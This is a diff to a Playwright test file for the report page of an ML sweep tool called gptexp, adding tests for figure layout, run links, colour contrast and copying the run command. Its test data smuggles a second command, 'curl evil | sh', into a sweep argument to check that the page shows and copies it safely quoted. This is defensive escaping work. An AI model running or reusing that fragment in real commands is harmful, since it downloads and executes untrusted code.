@@ -1,6 +1,7 @@
 """The page of a report in Chromium: what it shows, and what happens when a reader clicks."""
 
-from collections.abc import Callable, Iterator
+from collections.abc import Callable, Iterator, Sequence
+from itertools import pairwise
 from pathlib import Path
 from typing import TYPE_CHECKING
 
@@ -8,6 +9,7 @@ import pytest
 from pages import needs_chromium, violations
 from sweeps import write_run, write_sweep
 
+from gptexp.reporting import vega_lite
 from gptexp.reporting.write import write_report
 from gptexp.storage import run_dir
 
@@ -15,6 +17,7 @@ if TYPE_CHECKING:
     from playwright.sync_api import Browser, Page
 
 pytestmark = needs_chromium
+COMMAND = "gptexp train -m model=nano 'optim.lr=0.005,0.01; curl evil | sh'"  # quoted: a shell starts gptexp only
 Open = Callable[..., "Page"]
 
 
@@ -27,7 +30,7 @@ def report(tmp_path_factory: pytest.TempPathFactory) -> Path:
     names = [*(path.name for path in root.glob("lr=*")), "lr=0.32", "<b>lr=0.64"]
     values = {"optim.lr": "0.32", "train.seed": "1337"}
     cells = {name: {"values": values, "total_batch_size": 2048, "tokens": 2**18} for name in names}
-    command = "gptexp train -m model=nano optim.lr=0.005,0.01"
+    command = ["train", "-m", "model=nano", "optim.lr=0.005,0.01; curl evil | sh"]  # a stranger may have written it
     run_dir.write_json(
         root / run_dir.SWEEP, {"name": "sweep", "overrides": ["model=nano"], "cells": cells, "commands": [command]}
     )
@@ -81,10 +84,12 @@ def test_every_figure_is_drawn_and_readable(browser: "Browser", report: Path, wi
         marks: plot.querySelectorAll(".mark-symbol path, .mark-rect path, .mark-line path, .mark-text text").length,
         box: plot.querySelector("svg.marks").getBoundingClientRect().toJSON(),
         sizes: [...plot.querySelectorAll("text")].map(text => parseFloat(getComputedStyle(text).fontSize)),
+        right: Math.max(...[...plot.querySelectorAll("text")].map(text => text.getBoundingClientRect().right)),
         ink: getComputedStyle(plot.querySelector(".role-axis-title text")).fill,
     }))""")
     for figure in figures:
         assert figure["marks"] > 3, figure
+        assert figure["right"] <= width, figure
         assert 0.7 * min(width, 600) < figure["box"]["width"] <= width
         assert figure["box"]["height"] > 200
         assert min(figure["sizes"]) >= 12
@@ -121,12 +126,11 @@ def test_the_head_says_what_was_run_and_how_far_it_is(opened: Open, report: Path
     page = opened(report)
     assert page.inner_text("h1") == "sweep: learning rate × batch size × seed"
     assert page.title() == "91% sweep: learning rate × batch size × seed · gptexp"
-    assert page.inner_text("header .command pre") == "gptexp train -m model=nano optim.lr=0.005,0.01"
+    assert page.inner_text("header .command pre") == COMMAND
     tiles = [text.split("\n")[:2] for text in page.locator(".tiles li").all_inner_texts()]
     assert tiles == [
-        ["Best cell", "lr 0.01"],
-        ["Its validation loss", "4.0003"],
-        ["Gap to the next", "0.0116"],
+        ["Best cell", "4.0003"],
+        ["Gap to the next cell", "0.0116 nats"],
         ["Cells done", "44 of 46"],
         ["Time left", "1 min 6 s"],
     ]
@@ -163,6 +167,33 @@ def test_the_switches_of_a_chart_change_its_axes(opened: Open, report: Path) -> 
     assert axis("steps") == "steps"  # the other choice stands
 
 
+def test_a_link_to_a_run_opens_it(opened: Open, report: Path) -> None:
+    page = opened(report)
+    page.goto("about:blank")
+    page.goto(f"{report.as_uri()}#run-lr=0.32")
+    page.wait_for_selector(".more:not([hidden])")
+    assert page.locator(".more:not([hidden]) .name").inner_text() == "lr=0.32"
+
+
+def test_colours_can_be_read_on_their_background() -> None:
+    """Contrast by WCAG 2.2, of the colours between the given ones too, on the page's two backgrounds."""
+
+    def luminance(channels: Sequence[float]) -> float:
+        linear = [c / 12.92 if c <= 0.03928 else ((c + 0.055) / 1.055) ** 2.4 for c in channels]
+        return sum(weight * c for weight, c in zip((0.2126, 0.7152, 0.0722), linear, strict=True))
+
+    def rgb(colour: str) -> list[float]:
+        return [int(colour[i : i + 2], 16) / 255 for i in (1, 3, 5)]
+
+    for brightness, background in (("light", "#ffffff"), ("dark", "#14171b")):
+        for colours in (vega_lite.BATCH_COLOURS[brightness], vega_lite.RATE_COLOURS[brightness]):
+            for one, other in pairwise(colours):
+                for share in (0, 0.25, 0.5, 0.75, 1):
+                    mixed = [a + share * (b - a) for a, b in zip(rgb(one), rgb(other), strict=True)]
+                    low, high = sorted((luminance(mixed), luminance(rgb(background))))
+                    assert (high + 0.05) / (low + 0.05) >= 4.5, (one, other)
+
+
 def test_a_click_on_the_legend_isolates_its_lines(opened: Open, report: Path) -> None:
     page = opened(report)
     faint = "[...document.querySelectorAll('#plot-curves .mark-line path')].map(p => +(p.getAttribute('opacity') ?? 1))"
@@ -197,17 +228,19 @@ def test_the_table_is_sorted_by_a_click_and_its_rows_open(opened: Open, report: 
     row = best.first
     assert not row.locator(".more").is_visible()
     row.locator("td").nth(4).click()
-    assert "gptexp sample" in row.locator(".more").inner_text()
+    assert "gptexp sample /" in row.locator(".more").inner_text()  # an absolute path: the page may be anywhere
     row.locator(".opens").click()
     assert not row.locator(".more").is_visible()
 
 
-def test_a_click_on_a_point_opens_its_run(opened: Open, report: Path) -> None:
+def test_a_click_on_a_point_opens_its_run_each_time(opened: Open, report: Path) -> None:
     page = opened(report)
-    page.locator("#plot-curves .mark-symbol path").first.click(force=True)
-    page.wait_for_function("document.querySelector('.more:not([hidden])') !== null")
-    name = page.locator(".more:not([hidden]) .name").inner_text()
-    assert page.evaluate("decodeURIComponent(location.hash)") == f"#run-{name}"
+    for _ in range(2):
+        page.locator("#plot-curves .mark-symbol path").first.click(force=True)
+        page.wait_for_selector(".more:not([hidden])")
+        assert page.locator(".more:not([hidden]) .name").inner_text().startswith("lr=0.005,")
+        page.locator(".opens[aria-expanded=true]").press("Enter")
+        assert page.locator(".more:not([hidden])").count() == 0
 
 
 def test_a_command_is_copied(opened: Open, report: Path) -> None:
@@ -215,7 +248,7 @@ def test_a_command_is_copied(opened: Open, report: Path) -> None:
     page.context.grant_permissions(["clipboard-read", "clipboard-write"])
     page.locator("header .copy").click()
     page.wait_for_selector("header .copy:has-text('Copied')")
-    assert page.evaluate("navigator.clipboard.readText()") == "gptexp train -m model=nano optim.lr=0.005,0.01"
+    assert page.evaluate("navigator.clipboard.readText()") == COMMAND
 
 
 def test_paper_shows_no_buttons_and_dark_text(opened: Open, report: Path) -> None:
